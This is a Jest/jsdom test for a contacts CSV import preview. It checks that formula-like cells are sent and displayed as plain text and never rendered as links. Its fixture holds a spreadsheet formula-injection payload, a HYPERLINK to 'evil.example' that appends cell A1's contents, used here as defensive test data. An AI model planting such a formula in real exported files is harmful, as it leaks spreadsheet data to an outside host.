/**
 * @jest-environment jsdom
 */
// The contacts import's preview in a DOM (jsdom): cells that a spreadsheet would run as formulas
// (issue 45, item 2) are sent to the API as the text they are — the mock answers only the exact
// rows — and the preview shows them literally; the export's guard quote comes off (decision 0026).
import { act } from "react";

import { describe, expect, it } from "@atrium/test-kit";

import { input, renderWithApi, until } from "../../platform/testing/dom.tsx";
import { ImportDialog } from "./import-dialog.tsx";
import { ImportContactsDocument } from "./operations.ts";

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

async function choose(text: string): Promise<void> {
  const control = input("CSV file");
  // jsdom's File has no text(): the one method the dialog reads a file with.
  const file = Object.assign(new File([text], "contacts.csv", { type: "text/csv" }), {
    text: () => Promise.resolve(text),
  });
  Object.defineProperty(control, "files", { value: [file], configurable: true });
  // eslint-disable-next-line @typescript-eslint/require-await -- the async act lets the change handler's promises run
  await act(async () => {
    control.dispatchEvent(new Event("change", { bubbles: true }));
  });
}

describe("contacts import preview", () => {
  it("sends and shows formula-like cells as text", async () => {
    const rows = [
      { name: "=1+1", email: "one@example.com", phone: null, tags: null },
      { name: HYPERLINK, email: "evil@example.com", phone: "+15550102030", tags: null },
      { name: "-5", email: "five@example.com", phone: null, tags: null },
    ];
    const result = (row: number, r: (typeof rows)[number]) => ({
      __typename: "ContactImportRowResult" as const,
      row,
      action: "CREATED",
      name: r.name,
      email: r.email,
      phone: r.phone,
      tags: [],
      error: null,
      field: null,
      matchedBy: null,
      duplicateOfRow: null,
      changes: [],
    });
    await renderWithApi(<ImportDialog workspaceId="w1" onClose={() => undefined} />, [
      {
        request: {
          query: ImportContactsDocument,
          variables: { workspaceId: "w1", input: { rows, dryRun: true, onConflict: "KEEP_EXISTING" } },
        },
        result: {
          data: {
            importContacts: {
              __typename: "ContactImportResult",
              dryRun: true,
              onConflict: "KEEP_EXISTING",
              planId: "p1",
              created: 3,
              updated: 0,
              skipped: 0,
              failed: 0,
              rows: rows.map((r, i) => result(i, r)),
            },
          },
        },
      },
    ]);
    // The first row unguarded (another tool's file); the others as the export writes them.
    await choose(
      `name,email,phone,tags\r\n=1+1,one@example.com,,\r\n"'${HYPERLINK.replace(/"/g, '""')}",evil@example.com,"'+15550102030",\r\n"'-5",five@example.com,,\r\n`,
    );
    await until(() => document.querySelector('[data-testid="import-summary"]') !== null);
    expect(document.querySelector('[data-testid="import-summary"]')?.textContent).toBe(
      "3 will be created, 0 will be merged into existing contacts, 0 with errors.",
    );
    const cells = [...document.querySelectorAll("table tbody tr")].map((tr) =>
      [...tr.querySelectorAll("td, th")].map((cell) => cell.textContent),
    );
    expect(cells.map((c) => c[2])).toEqual(["=1+1", HYPERLINK, "-5"]);
    expect(cells[1]?.[3]).toBe("evil@example.com · +15550102030");
    // Text, not markup: no link was made of the HYPERLINK.
    expect(document.querySelector("table a")).toBeNull();
  });
});
